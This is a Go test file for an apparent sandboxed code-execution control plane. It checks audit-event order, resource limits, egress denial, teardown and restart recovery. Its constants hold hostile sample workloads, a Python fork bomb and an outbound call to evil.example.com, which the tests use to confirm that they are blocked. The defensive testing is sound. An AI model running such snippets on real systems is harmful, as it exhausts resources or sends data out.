package control

import (
	"context"
	"errors"
	"net"
	"os"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/enclave-run/enclave/internal/audit"
	"github.com/enclave-run/enclave/internal/backend"
	"github.com/enclave-run/enclave/internal/backend/simulator"
	"github.com/enclave-run/enclave/internal/egress"
	"github.com/enclave-run/enclave/internal/request"
	"github.com/enclave-run/enclave/internal/session"
)

const (
	forever = "import time\ntime.sleep(3600)\n"
	bomb    = "import os\nwhile True:\n    os.fork()\n"
	exfil   = "import urllib.request\nurllib.request.urlopen('http://evil.example.com/x')\n"
)

func TestRecordHasTheLiteralOrder(t *testing.T) {
	n := func(v int64) *int64 { return &v }
	for name, tc := range map[string]struct {
		req    request.Request
		phase  session.Phase
		reason session.KillReason
		types  []audit.Type
	}{
		"clean": {
			request.Request{Code: "enclave.result({\"answer\": 285})\n"}, session.Succeeded, "",
			[]audit.Type{audit.SessionCreated, audit.SandboxStarted, audit.ResultCollected, audit.WorkloadExited, audit.UsageMetered},
		},
		"denied": {
			request.Request{Code: exfil}, session.Failed, "",
			[]audit.Type{audit.SessionCreated, audit.SandboxStarted, audit.EgressDenied, audit.ResultCollected, audit.WorkloadExited, audit.UsageMetered},
		},
		"fork bomb": {
			request.Request{Code: bomb, Limits: request.Limits{Pids: n(64)}}, session.Killed, session.PidsExceeded,
			[]audit.Type{audit.SessionCreated, audit.SandboxStarted, audit.LimitExceeded, audit.ResultCollected, audit.WorkloadExited, audit.UsageMetered},
		},
		"wall clock": {
			request.Request{Code: forever, Limits: request.Limits{WallSeconds: n(1)}}, session.Killed, session.WallClockExceeded,
			[]audit.Type{audit.SessionCreated, audit.SandboxStarted, audit.LimitExceeded, audit.ResultCollected, audit.WorkloadExited, audit.UsageMetered},
		},
		"output": {
			request.Request{Code: "print('x' * 5000)\nprint('y' * 5000)\n", Limits: request.Limits{OutputBytes: n(1000)}}, session.Killed, session.OutputExceeded,
			[]audit.Type{audit.SessionCreated, audit.SandboxStarted, audit.LimitExceeded, audit.ResultCollected, audit.WorkloadExited, audit.UsageMetered},
		},
	} {
		t.Run(name, func(t *testing.T) {
			p, _ := newPlane(t)
			s := runToEnd(t, p, tc.req)
			if s.Outcome != tc.phase || s.KillReason != tc.reason {
				t.Errorf("ended as %s/%q, want %s/%q", s.Outcome, s.KillReason, tc.phase, tc.reason)
			}
			wantTypes(t, p, s.ID, tc.types...)
			if s, err := p.Teardown(t.Context(), caller, s.ID); err != nil || s.Phase != session.TornDown || s.Outcome != tc.phase {
				t.Errorf("teardown: phase %s, outcome %s, error %v", s.Phase, s.Outcome, err)
			}
			wantTypes(t, p, s.ID, append(tc.types, audit.SessionTornDown)...)
			if _, err := p.Teardown(t.Context(), caller, s.ID); err != nil {
				t.Errorf("teardown again: %v", err)
			}
			wantTypes(t, p, s.ID, append(tc.types, audit.SessionTornDown)...)
		})
	}
}

// printed returns what a session wrote to its standard output and error, which
// fits into one part.
func printed(t *testing.T, p *Plane, id string) (stdout, stderr string) {
	t.Helper()
	o, err := p.Output(t.Context(), caller, id, 0, 0, 1<<20)
	if err != nil || o.StdoutLength != int64(len(o.Stdout)) || o.StderrLength != int64(len(o.Stderr)) {
		t.Errorf("%d bytes of %d, %d of %d, %v", len(o.Stdout), o.StdoutLength, len(o.Stderr), o.StderrLength, err)
	}
	return string(o.Stdout), string(o.Stderr)
}

func TestTheFirstOutputBytesAreKept(t *testing.T) {
	p, _ := newPlane(t)
	limit := int64(1000)
	s := runToEnd(t, p, request.Request{Code: "print('x' * 5000)\n", Limits: request.Limits{OutputBytes: &limit}})
	r, _, err := p.Result(t.Context(), caller, s.ID)
	if err != nil {
		t.Fatal(err)
	}
	if stdout, _ := printed(t, p, s.ID); stdout != strings.Repeat("x", 1000) || !r.Truncated {
		t.Errorf("%d bytes kept, truncated %t; want the first 1000 and true", len(stdout), r.Truncated)
	}
}

func TestDenialsReachTheResult(t *testing.T) {
	p, _ := newPlane(t)
	s := runToEnd(t, p, request.Request{Code: exfil})
	_, denials, err := p.Result(t.Context(), caller, s.ID)
	if err != nil || len(denials) != 1 || denials[0].Data.Host != "evil.example.com" || denials[0].Data.Reason != "not_allowed" {
		t.Errorf("denials are %+v, error %v", denials, err)
	}
}

func TestTeardownOfARunningSessionIsCancelled(t *testing.T) {
	p, l := newPlane(t)
	s, err := p.Create(t.Context(), caller, request.Request{Code: forever})
	if err != nil {
		t.Fatal(err)
	}
	await(t, p, s.ID, func(s session.Session, _ Update) bool { return s.Phase == session.Running })
	s, err = p.Teardown(t.Context(), caller, s.ID)
	if err != nil || s.Outcome != session.Killed || s.KillReason != session.Cancelled || s.Phase != session.TornDown {
		t.Errorf("ended as %s/%s/%s, error %v", s.Phase, s.Outcome, s.KillReason, err)
	}
	if left, err := l.backend.List(t.Context()); err != nil || len(left) != 0 {
		t.Errorf("sandboxes %v are left, error %v", left, err)
	}
	wantTypes(t, p, s.ID, audit.SessionCreated, audit.SandboxStarted, audit.ResultCollected, audit.WorkloadExited, audit.UsageMetered, audit.SessionTornDown)
}

func TestASessionThatWaitsForAPlaceCanBeTornDown(t *testing.T) {
	table, err := egress.Standard()
	if err != nil {
		t.Fatal(err)
	}
	_, l := newPlane(t)
	l.close()
	c := l.config(table)
	c.MaxRunning = 1
	l.open(c)
	p := l.plane
	first, err := p.Create(t.Context(), caller, request.Request{Code: forever})
	if err != nil {
		t.Fatal(err)
	}
	await(t, p, first.ID, func(s session.Session, _ Update) bool { return s.Phase == session.Running })
	second, err := p.Create(t.Context(), caller, request.Request{Code: forever})
	if err != nil {
		t.Fatal(err)
	}
	second, err = p.Teardown(t.Context(), caller, second.ID)
	if err != nil || second.KillReason != session.Cancelled || !second.Started.IsZero() {
		t.Errorf("the waiting session ended as %s, started %v, error %v", second.KillReason, second.Started, err)
	}
	wantTypes(t, p, second.ID, audit.SessionCreated, audit.ResultCollected, audit.WorkloadExited, audit.UsageMetered, audit.SessionTornDown)
}

// faulty breaks one promise of the backend it wraps.
type faulty struct {
	backend.Backend
	start   func(context.Context, backend.ID, backend.Spec) error
	listen  func(context.Context, backend.ID) (net.Listener, error)
	destroy func(context.Context, backend.ID) error
}

func (f *faulty) Start(ctx context.Context, id backend.ID, s backend.Spec) error {
	if f.start != nil {
		return f.start(ctx, id, s)
	}
	return f.Backend.Start(ctx, id, s)
}

func (f *faulty) Listen(ctx context.Context, id backend.ID) (net.Listener, error) {
	if f.listen != nil {
		return f.listen(ctx, id)
	}
	return f.Backend.Listen(ctx, id)
}

func (f *faulty) Destroy(ctx context.Context, id backend.ID) error {
	if f.destroy != nil {
		return f.destroy(ctx, id)
	}
	return f.Backend.Destroy(ctx, id)
}

func TestABackendThatFailsEndsTheSessionAsLost(t *testing.T) {
	broken := errors.New("broken")
	sim := simulator.New()
	for name, b := range map[string]backend.Backend{
		"start fails":  &faulty{Backend: sim, start: func(context.Context, backend.ID, backend.Spec) error { return broken }},
		"listen fails": &faulty{Backend: sim, listen: func(context.Context, backend.ID) (net.Listener, error) { return nil, broken }},
		"sandbox exits before hello": &faulty{Backend: sim, start: func(ctx context.Context, id backend.ID, s backend.Spec) error {
			// A sandbox whose guest cannot connect: its listener is gone.
			if err := sim.Destroy(ctx, id); err != nil {
				return err
			}
			return sim.Start(ctx, id, s)
		}},
	} {
		t.Run(name, func(t *testing.T) {
			p, _ := newPlaneOn(t, b)
			s := runToEnd(t, p, request.Request{Code: "1"})
			if s.Outcome != session.Killed || s.KillReason != session.BackendLost {
				t.Errorf("ended as %s/%s", s.Outcome, s.KillReason)
			}
			wantTypes(t, p, s.ID, audit.SessionCreated, audit.ResultCollected, audit.WorkloadExited, audit.UsageMetered)
			if left, err := sim.List(t.Context()); err != nil || len(left) != 0 {
				t.Errorf("sandboxes %v are left, error %v", left, err)
			}
		})
	}
}

func TestDestroyIsRetriedUntilItSucceeds(t *testing.T) {
	sim := simulator.New()
	var calls atomic.Int32
	b := &faulty{Backend: sim}
	b.destroy = func(ctx context.Context, id backend.ID) error {
		if calls.Add(1) < 4 {
			return errors.New("busy")
		}
		return sim.Destroy(ctx, id)
	}
	p, _ := newPlaneOn(t, b)
	s := runToEnd(t, p, request.Request{Code: "1"})
	if _, err := p.Teardown(t.Context(), caller, s.ID); err != nil {
		t.Fatal(err)
	}
	if left, err := sim.List(t.Context()); err != nil || len(left) != 0 || calls.Load() < 4 {
		t.Errorf("after %d calls sandboxes %v are left, error %v", calls.Load(), left, err)
	}
}

// deaf is a gateway that dies, or whose recorder fails, as soon as it serves.
type deaf struct{ Gateway }

func (deaf) Serve(_ context.Context, packets net.Conn, _ string, _ egress.Grant, _ audit.Recorder) (egress.Traffic, error) {
	packets.Close()
	return egress.Traffic{}, errors.New("the gateway died")
}

func TestASessionWithoutItsGatewayNeverSucceeds(t *testing.T) {
	_, l := newPlane(t)
	l.close()
	table, err := egress.Standard()
	if err != nil {
		t.Fatal(err)
	}
	l.gateway = deaf{l.gateway}
	l.open(l.config(table))
	s := runToEnd(t, l.plane, request.Request{Code: "enclave.result(1)\n"})
	if s.Outcome != session.Killed || s.KillReason != session.BackendLost {
		t.Errorf("ended as %s/%s", s.Outcome, s.KillReason)
	}
}

func TestRestartEndsWhatRanAndRunsWhatWaited(t *testing.T) {
	table, err := egress.Standard()
	if err != nil {
		t.Fatal(err)
	}
	p, l := newPlane(t)
	running, err := p.Create(t.Context(), caller, request.Request{Code: forever})
	if err != nil {
		t.Fatal(err)
	}
	await(t, p, running.ID, func(s session.Session, _ Update) bool { return s.Phase == session.Running })
	stray := backend.ID("strayaaaaaaaaaaaaaaa")
	if err := l.backend.Start(t.Context(), stray, backend.Spec{Image: "sha256:" + strings.Repeat("0", 64), Limits: backend.Limits{MilliCPU: 1, CPU: 1, Memory: 1, Pids: 1, Disk: 1}}); err != nil {
		t.Fatal(err)
	}

	// The control plane dies: nothing of it is told. A second one opens a copy of
	// what was durable at that moment.
	copied := copyStore(t, l)
	waiting := session.Session{
		ID: "s-abcdef-9", Org: caller.Org, CreatedBy: caller.User, Phase: session.Pending, Language: "python", Limits: request.DefaultLimits(),
		Egress: session.Egress{Mode: "deny_all", Allow: []string{}}, Backend: "simulator", Isolation: "none", Sandbox: "waitingaaaaaaaaaaaaa",
	}
	second := &lab{t: t, path: copied, backend: l.backend, gateway: l.gateway}
	before := openStore(t, copied)
	waiting.Created = running.Created
	if _, err := before.Create(t.Context(), waiting, session.Work{Code: "enclave.result(7)\n"}, audit.Data{Caller: "k1"}); err != nil {
		t.Fatal(err)
	}
	if err := before.Close(); err != nil {
		t.Fatal(err)
	}
	second.open(second.config(table))
	defer second.close()

	lost := await(t, second.plane, running.ID, func(_ session.Session, u Update) bool { return u.End })
	if lost.Outcome != session.Killed || lost.KillReason != session.BackendLost {
		t.Errorf("the running session ended as %s/%s", lost.Outcome, lost.KillReason)
	}
	wantTypes(t, second.plane, running.ID, audit.SessionCreated, audit.SandboxStarted, audit.ResultCollected, audit.WorkloadExited, audit.UsageMetered)
	ran := await(t, second.plane, waiting.ID, func(_ session.Session, u Update) bool { return u.End })
	if ran.Outcome != session.Succeeded {
		t.Errorf("the waiting session ended as %s/%s", ran.Outcome, ran.KillReason)
	}
	left, err := l.backend.List(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range left {
		if id == stray || string(id) == running.Sandbox {
			t.Errorf("sandbox %s is left", id)
		}
	}
}

func TestCloseLetsSessionsEnd(t *testing.T) {
	p, l := newPlane(t)
	s, err := p.Create(t.Context(), caller, request.Request{Code: "enclave.result(1)\n"})
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Close(t.Context()); err != nil {
		t.Fatal(err)
	}
	if s, err = l.store.Session(t.Context(), caller.Org, s.ID); err != nil || s.Outcome != session.Succeeded {
		t.Errorf("ended as %s/%s, error %v", s.Outcome, s.KillReason, err)
	}
	if _, err := p.Create(t.Context(), caller, request.Request{Code: "1"}); !errors.Is(err, ErrClosing) {
		t.Errorf("create after close: %v", err)
	}
}

// copyStore returns the path of a copy of what l's store has made durable.
func copyStore(t *testing.T, l *lab) string {
	t.Helper()
	dst := t.TempDir() + "/copy.db"
	for _, suffix := range []string{"", "-wal"} {
		b, err := os.ReadFile(l.path + suffix)
		if err != nil && !errors.Is(err, os.ErrNotExist) {
			t.Fatal(err)
		}
		if err := os.WriteFile(dst+suffix, b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dst
}
